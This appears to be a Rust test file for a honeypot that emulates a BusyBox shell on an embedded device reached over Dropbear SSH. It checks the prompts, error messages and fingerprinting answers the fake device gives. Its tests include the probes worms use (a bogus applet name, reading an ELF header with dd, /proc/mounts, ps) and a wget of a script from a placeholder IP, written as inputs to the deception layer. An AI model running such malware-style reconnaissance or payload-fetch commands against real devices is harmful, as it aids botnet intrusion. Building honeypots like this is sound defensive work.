//! The shell of devices: BusyBox.

use std::{os::unix::process::CommandExt, path::Path, process::Command, sync::OnceLock};

use super::*;

fn device() -> Arc<ShellSpec> {
    let product = include_str!("../../../../../profiles/services/dropbear-2020.81.toml");
    let table: toml::Table = product.parse().unwrap();
    Arc::new(table["kind"]["ssh"]["shell"].clone().try_into().unwrap())
}

pub(super) fn exec(line: &str) -> (String, String, i32) {
    let mut shell = shell_with(&device(), "root", false);
    shell.directory = "/".into();
    let (out, errors, status) = exec_in(&mut shell, line);
    (out, errors, status.into())
}

fn said(line: &str) -> String {
    say(&mut shell_with(&device(), "root", true), line)
}

/// What the installed BusyBox says, its shell called as Dropbear calls it.
pub(super) fn real(line: &str) -> (String, String, i32) {
    static FOLDER: OnceLock<tempfile::TempDir> = OnceLock::new();
    let folder = FOLDER.get_or_init(|| {
        let folder = tempfile::tempdir().unwrap();
        let done = Command::new("busybox").args(["--install", "-s"]).arg(folder.path()).status();
        assert!(done.is_ok_and(|status| status.success()), "busybox is not installed: cargo xtask tools");
        folder
    });
    let path: &Path = folder.path();
    let mut command = Command::new(path.join("sh"));
    command.arg0("sh").args(["-c", line]).env_clear().env("PATH", path).current_dir("/");
    let output = command.stdin(std::process::Stdio::null()).output().unwrap();
    let text = |octets: &[u8]| String::from_utf8_lossy(octets).into_owned();
    (text(&output.stdout), text(&output.stderr), output.status.code().unwrap())
}

#[test]
fn a_session_on_a_device() {
    let mut shell = shell_with(&device(), "root", true);
    let greeting = String::from_utf8(shell.greeting()).unwrap();
    assert!(
        greeting.contains("BusyBox v1.33.1 (") && greeting.contains(" built-in shell (ash)\nEnter 'help' for a list")
    );
    assert_eq!(shell.prompt(), b"~ # ");
    assert_eq!(say(&mut shell, "cd /etc; pwd"), "/etc\n");
    assert_eq!(shell.prompt(), b"/etc # ");
    assert_eq!(say(&mut shell, "foo"), "-sh: foo: not found\n");
    assert_eq!(say(&mut shell, "cd /nothing"), "-sh: cd: can't cd to /nothing: No such file or directory\n");
    assert_eq!(
        say(&mut shell, "sudo id; gcc; systemctl"),
        "-sh: sudo: not found\n-sh: gcc: not found\n-sh: systemctl: not found\n"
    );
    assert_eq!(say(&mut shell, "echo $0 $SHELL $HOME"), "-sh /bin/sh /root\n");
    assert_eq!(shell.handle_line(NOW, b"exit", &mut Written::default()), Flow::Exit(0));
    assert_eq!(shell.farewell(), Some(b"\n".as_slice()));
}

/// The questions by which malware finds out whether it is in a device, and in which.
#[test]
fn what_worms_ask() {
    assert_eq!(said("/bin/busybox ECCHI"), "ECCHI: applet not found\n");
    assert_eq!(said("busybox uname -m"), "mips\n");
    let (header, told, _) = exec("dd bs=52 count=1 if=/bin/echo");
    assert!(header.starts_with("\x7fELF\x01\x02\x01") && told.ends_with("records out\n"), "{header:?} {told:?}");
    assert!(said("cat /proc/mounts").contains("overlayfs:/overlay / overlay rw,noatime,"));
    assert!(said("ps").contains(" root       1100 S    /usr/sbin/dropbear -p 22\n"), "{}", said("ps"));
    assert_eq!(
        said("cat /proc/version"),
        format!("Linux version {} (builder@buildhost) {}", said("uname -r").trim(), said("uname -v"))
    );
    assert!(said("ifconfig").contains("br-lan    Link encap:Ethernet  HWaddr 00:50:56:9A:10:07  \n          inet addr:10.20.1.16  Bcast:10.20.3.255  Mask:255.255.252.0\n"));
    assert_eq!(
        said("wget http://192.0.2.1/x.sh"),
        "Connecting to 192.0.2.1 (192.0.2.1:80)\nwget: can't connect to remote host (192.0.2.1): Network is unreachable\n"
    );
    assert!(
        said("netstat -tln")
            .contains("tcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN      \n")
    );
    assert_eq!(said("echo -e '\\x41\\x42'"), "AB\n");
}

/// Lines whose answer is not the machine's, as the real BusyBox of Debian answers them.
#[test]
fn applets_say_what_the_real_ones_say() {
    let lines = [
        "cat /nothing",
        "cat /etc",
        "ls /nothing",
        "mkdir /etc",
        "mkdir /nothing/b",
        "rm /nothing",
        "rm /etc",
        "rmdir /nothing",
        "touch /nothing/b",
        "chmod 777 /nothing",
        "cp /nothing /tmp/q",
        "cp /etc /tmp/q",
        "mv /nothing /tmp/q",
        "nothing",
        "/nothing",
        "/etc",
        "./x",
        "head /nothing",
        "grep x /nothing",
        "wc /nothing",
        "sort /nothing",
        "find /nothing",
        "id nobody-at-all",
        "echo a | | b",
        "echo 'a",
        "wget http://nowhere.invalid/",
        "ping nowhere.invalid",
        "kill 4000000",
        "kill",
        "killall nothing",
        "type nothing",
        "which nothing",
        "echo x > /etc",
        "echo x > /nothing/b",
        "cat < /nothing",
        "cd /nothing",
        "cd /etc/passwd",
        "echo -n a",
        "echo -e 'a\\tb' 'c\\x41'",
        "exit 300",
        "false && echo a || echo b",
        "echo a b | wc",
        "echo a b | wc -w",
        "uname -s -o",
        "date +x%%",
        "mount /x",
        "tty",
        "true; echo $?",
        "uniq /nothing",
        "free | head -1",
        "df | head -1",
        "df -h | head -1",
        "echo $0",
    ];
    let differ = |line: &&str| exec(line) != real(line);
    let wrong: Vec<_> = lines.into_iter().filter(differ).map(|line| (line, exec(line), real(line))).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn two_devices_differ() {
    let texts = |seed: [u8; 16]| {
        let mut shell = Shell::new(&device(), &identity(seed), "root", NOW, &Surroundings::default(), true);
        say(&mut shell, "free; uptime; ls -la /etc; ps; ifconfig")
    };
    assert_eq!(texts([1; 16]), texts([1; 16]));
    assert_ne!(texts([1; 16]), texts([2; 16]));
}
